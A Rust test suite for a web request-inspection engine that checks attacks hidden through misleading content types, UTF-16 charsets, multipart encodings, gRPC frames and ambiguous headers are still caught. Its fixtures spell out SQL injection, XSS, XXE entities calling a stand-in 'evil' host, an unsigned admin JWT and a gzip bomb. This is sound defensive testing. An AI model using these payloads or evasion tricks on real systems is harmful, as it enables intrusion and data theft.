//! What hides a body or a field from those who look: types, charsets, formats and heads that no reader is bound by. Each was a way past once.

use std::io::Write as _;
use std::sync::Arc;

use claviger::inspect::{Engine, FaultKind, Head, Profile, Report, RuleFile, Settings};
use http::{HeaderMap, HeaderValue, Method};

/// An attack that is stopped wherever it is seen.
const A: &str = "' UNION SELECT password FROM users-- ";

const FORM: &str = "application/x-www-form-urlencoded";
const MULTIPART: &str = "multipart/form-data; boundary=b";

/// A form of one part, with more in its head.
fn part(more: &str, content: &[u8]) -> Vec<u8> {
    let head = format!("--b\r\nContent-Disposition: form-data; name=\"n\"{more}\r\n\r\n");
    [head.as_bytes(), content, b"\r\n--b--\r\n"].concat()
}

/// Filled to an even length, as texts of two bytes a sign are.
fn even(text: String) -> Vec<u8> {
    if text.len().is_multiple_of(2) { text.into_bytes() } else { (text + " ").into_bytes() }
}

fn marked(mark: &[u8], text: String) -> Vec<u8> {
    [mark, &even(text)].concat()
}

fn wide(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A frame of gRPC, as it is or in gzip.
fn frame(flag: u8, message: &[u8]) -> Vec<u8> {
    let mut message = message.to_vec();
    if flag == 1 {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gzip.write_all(&message).expect("written");
        message = gzip.finish().expect("finished");
    }
    let length = u32::try_from(message.len()).expect("short");
    [&[flag][..], &length.to_be_bytes(), &message].concat()
}

/// With the ready-made rules, and one that watches a field of the body.
fn watching() -> Profile {
    let mut rules = RuleFile::ready_made().expect("rules");
    let own = "[[rule]]\nid = \"own.ticket\"\nclass = \"custom\"\nscore = 5\nabout = \"x\"\nwhere = [\"body:ticket\"]\nany = [\"evil\"]";
    rules.extend(RuleFile::parse(own).expect("a rule").rule);
    Profile::new(Arc::new(Engine::new(rules).expect("compiled")), Settings::default()).expect("a profile")
}

/// Fails with all that do not come out as they should.
#[track_caller]
fn assert_all(cases: &[(&str, Vec<u8>)], is_stopped: bool) {
    let profile = watching();
    let wrong: Vec<String> = cases
        .iter()
        .map(|(kind, body)| (kind, body, judge_any(&profile, kind, body)))
        .filter(|(.., report)| report.is_attack != is_stopped)
        .map(|(kind, body, report)| format!("{kind}: {} {:?} {:?}", body.escape_ascii(), report.fault, report.findings))
        .collect();
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), cases.len(), wrong.join("\n"));
}

/// Judges a body of a type, or of none.
fn judge_any(profile: &Profile, kind: &str, body: &[u8]) -> Report {
    let mut headers = HeaderMap::new();
    if !kind.is_empty() {
        headers.insert("content-type", HeaderValue::from_str(kind).expect("a type"));
    }
    profile.judge(&Head { method: &Method::POST, path: "/", query: None, headers: &headers }, Some(body))
}

#[test]
fn no_type_hides_a_body() {
    let del = |text: &str| text.replace("DEL", "\x7f").replace('A', A).into_bytes();
    let json = || del("{\"x\":\"DEL\",\"q\":\"A\"}");
    let not_utf_8 = [b"{\"x\":\"\xff\",\"q\":\"", A.as_bytes(), b"\"}"].concat();
    let fixed = [&b"\x09"[..], b"' UNION ", b"\x11", b"        ", b"\x19", b"12345678"].concat();
    assert_all(
        &[
            ("image/png", json()),
            ("application/octet-stream", json()),
            ("application/x-protobuf", json()),
            ("application/grpc", frame(0, &json())),
            ("image/png", not_utf_8.clone()),
            ("application/octet-stream", not_utf_8.clone()),
            ("application/x-protobuf", not_utf_8),
            ("application/pdf", del("q=A&x=DEL")),
            ("application/zip", del("%PDF-=1&q=A&x=DEL")),
            ("", del("{\"aaftyp\":\"DEL\",\"q\":\"A\"}")),
            ("application/x-foo", del("{\"aaftyp\":\"DEL\",\"q\":\"A\"}")),
            ("image/jpeg", [&b"\0\x01\x02\x03"[..], &[0xff; 400], A.as_bytes(), &[0; 90]].concat()),
            ("application/x-protobuf", [&b"\x0a\x2d\x7f"[..], A.as_bytes(), b"abcdefg"].concat()),
            ("application/x-protobuf", [&b"\x0a\x2d\x01\x02\x03\x04\x05\x06\x07\x08"[..], A.as_bytes()].concat()),
            ("application/octet-stream", b"' or 1=1-- \x01\x01\x01\x01\x01\x01".to_vec()),
            ("application/x-protobuf", b"1' OR 1=1\x08\x01\x08\x01\x08\x01\x08\x01".to_vec()),
            // Numbers of eight bytes, their tags and numbers of varying length, that are a text in whole.
            ("application/x-protobuf", b"1' OR 1=1(-(-".to_vec()),
            (MULTIPART, part("; filename=\"\"\r\nContent-Type: image/png", &del("DELA"))),
        ],
        true,
    );
    let mut png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0\0\0\x01\0\x08\x06\0\0\0".to_vec();
    png.extend((0..4000u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 13) as u8));
    assert_all(
        &[
            ("image/png", png.clone()),
            ("application/octet-stream", png.clone()),
            (MULTIPART, part("; filename=\"a.png\"\r\nContent-Type: image/png", &png)),
            (MULTIPART, part("; filename=\"\"\r\nContent-Type: application/octet-stream", b"")),
            ("application/octet-stream", fixed),
            ("application/octet-stream", png[40..].to_vec()),
            ("text/plain", b"[INFO] it's started: {ok}".to_vec()),
            ("text/plain", b"\"Hello\", he said, and 'left'".to_vec()),
        ],
        false,
    );
}

#[test]
fn no_charset_hides_a_body() {
    let form = || even(format!("q={A}"));
    let json = || even(format!("{{\"q\":\"{A}\"}}"));
    let charset = |name: &str| {
        let first = format!("--b\r\nContent-Disposition: form-data; name=\"_charset_\"\r\n\r\n{name}\r\n");
        [first.into_bytes(), part("", &even(A.to_owned()))].concat()
    };
    assert_all(
        &[
            ("application/x-www-form-urlencoded; charset=utf-16le", form()),
            ("application/x-www-form-urlencoded; charset=utf-16be", form()),
            (FORM, marked(b"\xff\xfe", format!("=1&q={A}"))),
            (FORM, marked(b"\xfe\xff", format!("=1&q={A}"))),
            (FORM, wide(&format!("\u{feff}q={A}"))),
            ("text/plain; charset=utf-16le", json()),
            ("text/plain; charset=utf-16le", even(A.to_owned())),
            ("text/plain; charset=utf-16", marked(b"\xff\xfe", A.to_owned())),
            ("application/x-foo; charset=utf-16le", json()),
            ("", marked(b"\xff\xfe", A.to_owned())),
            ("text/plain; charset=utf-16le", wide(A)),
            ("", wide(&format!("\u{feff}{A}"))),
            ("text/plain; charset=latin1", wide(&format!("\u{feff}{A}"))),
            ("text/plain", wide("{\"ticket\":\"evil\"}")),
            ("", wide("{\"role\":\"user\",\"role\":\"admin\"}")),
            ("application/json; charset=utf-16le", json()),
            ("application/json; charset=iso-8859-1", b"{\"q\":\"\xe9\"}".to_vec()),
            (MULTIPART, part("\r\nContent-Type: text/plain; charset=utf-16le", &even(A.to_owned()))),
            (MULTIPART, part("; filename=x\r\nContent-Type: text/plain; charset=utf-16le", &even(A.to_owned()))),
            (MULTIPART, part("", &marked(b"\xff\xfe", A.to_owned()))),
            (MULTIPART, part("; filename=x", &marked(b"\xff\xfe", A.to_owned()))),
            (MULTIPART, part("\r\nContent-Type: application/json; charset=utf-16le", &json())),
            (MULTIPART, charset("utf-16le")),
            (MULTIPART, part("\r\nContent-Transfer-Encoding: quoted-printable", b"=41<scr=\r\nipt>alert(1)</script>")),
            (MULTIPART, part("\r\nContent-Transfer-Encoding: quoted-printable", b"1' or 1=11=11 -- ")),
        ],
        true,
    );
    assert_all(
        &[
            ("text/plain; charset=utf-16le", wide("Honest words, it's so.")),
            ("text/plain; charset=utf-16", wide("\u{feff}日本語のテキスト、改行なし。漢字かな交じり文である")),
            ("text/csv", wide("\u{feff}name;price\r\nO'Brien;12\r\n")),
            ("application/json; charset=utf-16le", wide("{\"q\":\"日本\"}")),
            ("application/json; charset=iso-8859-1", b"{\"q\":\"plain\"}".to_vec()),
            (
                MULTIPART,
                part("; filename=x.csv\r\nContent-Type: text/csv", &wide("\u{feff}name;price\r\nO'Brien;12\r\n")),
            ),
        ],
        false,
    );
}

#[test]
fn no_format_hides_the_text_that_it_is_written_in() {
    let profile = watching();
    let json = "[\"x' or \",\"<>\",\"' \"]";
    let graphql = "{x (select password from users where id=1)}";
    let head = |name: &'static str, value: &str| {
        let mut headers = HeaderMap::new();
        headers.insert(name, HeaderValue::from_str(value).expect("a value"));
        headers
    };
    let encoded = |text: &str| form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    for text in [json, graphql] {
        let name = if text == graphql { "query" } else { "q" };
        let query = format!("{name}={}", encoded(text));
        for (headers, query, body) in [
            (HeaderMap::new(), Some(&*query), None),
            (head("x-note", text), None, None),
            (head("cookie", &format!("a={text}")), None, None),
            (head("content-type", FORM), None, Some(query.clone().into_bytes())),
            (head("content-type", MULTIPART), None, Some(part("", text.as_bytes()))),
            (
                head("content-type", "application/json"),
                None,
                Some(serde_json::json!({ name: text }).to_string().into_bytes()),
            ),
        ] {
            let report =
                profile.judge(&Head { method: &Method::POST, path: "/", query, headers: &headers }, body.as_deref());
            assert!(report.is_attack, "{text} {headers:?} {query:?}");
        }
    }
    for body in [format!("{{\"xquery\":\"{graphql}\"}}"), format!("[{{\"query\":\"{graphql}\"}}]")] {
        assert!(judge_any(&profile, "application/json", body.as_bytes()).is_attack, "{body}");
    }
}

#[test]
fn no_type_moves_a_field() {
    let types = [
        "text/plain",
        "",
        "application/x-foo",
        "application/octet-stream",
        "image/png",
        FORM,
        "application/x-protobuf",
    ];
    let bodies = [
        "{\"ticket\":\"evil\"}",
        " \r\n{\"ticket\":\"evil\"}",
        "{\"ticket\":\"evil\"} more",
        "{\"role\":\"user\",\"role\":\"admin\"}",
    ];
    let mut cases: Vec<(&str, Vec<u8>)> =
        types.iter().flat_map(|kind| bodies.map(|body| (*kind, body.as_bytes().to_vec()))).collect();
    cases.push((FORM, b"{\"a\":\"&ticket=evil&b=\"}".to_vec()));
    cases.push(("", b"ticket=evil&b=1".to_vec()));
    cases.push(("text/plain", b"\xef\xbb\xbf{\"ticket\":\"evil\"}".to_vec()));
    assert_all(&cases, true);
    let honest = ["{\"ticket\":\"a\",\"b\":{\"c\":\"x & y\"}}", "[\"it's\"]", "{a} & [b]"];
    let cases: Vec<(&str, Vec<u8>)> =
        types.iter().flat_map(|kind| honest.map(|body| (*kind, body.as_bytes().to_vec()))).collect();
    assert_all(&cases, false);
}

#[test]
fn no_type_hides_a_document_type() {
    let types =
        ["text/plain", "", "application/x-foo", "application/octet-stream", "image/png", FORM, "text/html", MULTIPART];
    let bodies = [
        "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
        " \n<?xml version=\"1.0\"?>\n<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
        "<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a/>",
        "<!-- x --><!DOCTYPE a [<!ENTITY b SYSTEM \"http://evil/x\">]><a>&b;</a>",
        "<!DOCTYPE html [<!ENTITY b SYSTEM \"http://evil/x\">]><html/>",
        "<!DOCTYPE html SYSTEM \"http://evil/x.dtd\"><html/>",
        "<!DOCTYPE html PUBLIC \"x\" \"http://evil/x.dtd\"><html/>",
        "<!DOCTYPE html PUBLIC \"-//x>\" \"http://evil/x.dtd\"><html/>",
        "\u{feff}<!DOCTYPE a><a/>",
    ];
    let body = |kind: &str, body: &str| if kind == MULTIPART { part("", body.as_bytes()) } else { body.into() };
    let mut cases: Vec<(&str, Vec<u8>)> =
        types.iter().flat_map(|kind| bodies.map(|text| (*kind, body(kind, text)))).collect();
    cases.push(("text/plain", wide(bodies[0])));
    cases.push(("", wide(bodies[2])));
    cases.push(("image/png", wide(&format!("\u{feff}{}", bodies[0]))));
    cases.push(("", b"<a xmlns:x=\"http://www.w3.org/2001/XInclude\"><x:include href=\"f\"/></a>".to_vec()));
    assert_all(&cases, true);
    let html = [
        "<!DOCTYPE html><html><body>it's</body></html>",
        "<!doctype html>\n<p>x",
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\"><html/>",
        "<!DOCTYPE html SYSTEM \"about:legacy-compat\"><p>x",
    ];
    let mut cases: Vec<(&str, Vec<u8>)> =
        ["text/html", "text/plain", ""].iter().flat_map(|kind| html.map(|text| (*kind, text.into()))).collect();
    cases.push(("text/plain", b"A document starts with <!DOCTYPE a SYSTEM \"x\">.".to_vec()));
    assert_all(&cases, false);
}

#[test]
fn no_head_says_two_things() {
    assert_all(
        &[
            ("multipart/form-data; boundary=b; boundary*0=c; boundary*1=d", part("", b"x")),
            ("multipart/form-data; boundary=b; boundary*=utf-8''c", part("", b"x")),
            ("application/json; charset*=utf-7''x", b"{}".to_vec()),
            (MULTIPART, part("; name*=utf-8''ticket", b"x")),
            (MULTIPART, part("; filename=a.png; filename*0=b.php", b"x")),
            (MULTIPART, part("; filename*0*=utf-8''b.php", b"x")),
        ],
        true,
    );
    assert_all(&[(MULTIPART, part("; filename*=utf-8''b.txt", b"x"))], false);
    let profile = watching();
    for (name, value, is_stopped) in [
        ("cookie", "$Version=1; a=\"x", true),
        ("cookie", "a=1; $version=1", true),
        ("cookie", "a=$Version", false),
        ("authorization", "Bearer <script>alert(1)</script>", false),
        ("proxy-authorization", "Digest x=<script>alert(1)</script>", false),
        ("authorization", "Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhZG1pbiJ9.", true),
    ] {
        let mut headers = HeaderMap::new();
        headers.insert(name, HeaderValue::from_str(value).expect("a value"));
        let report = profile.judge(&Head { method: &Method::GET, path: "/", query: None, headers: &headers }, None);
        assert_eq!(report.is_attack, is_stopped, "{name}: {value} {report:?}");
    }
}

#[test]
fn frames_are_bounded_in_all() {
    let profile = super::profile();
    let message = vec![0; 900 << 10];
    for (frames, is_stopped) in [(3, false), (12, true)] {
        let body = frame(1, &message).repeat(frames);
        let mut headers = HeaderMap::new();
        headers.insert("content-type", HeaderValue::from_static("application/grpc"));
        headers.insert("grpc-encoding", HeaderValue::from_static("gzip"));
        let report =
            profile.judge(&Head { method: &Method::POST, path: "/", query: None, headers: &headers }, Some(&body));
        assert_eq!(report.fault.map(|fault| fault.kind), is_stopped.then_some(FaultKind::Bomb), "{frames}");
    }
}
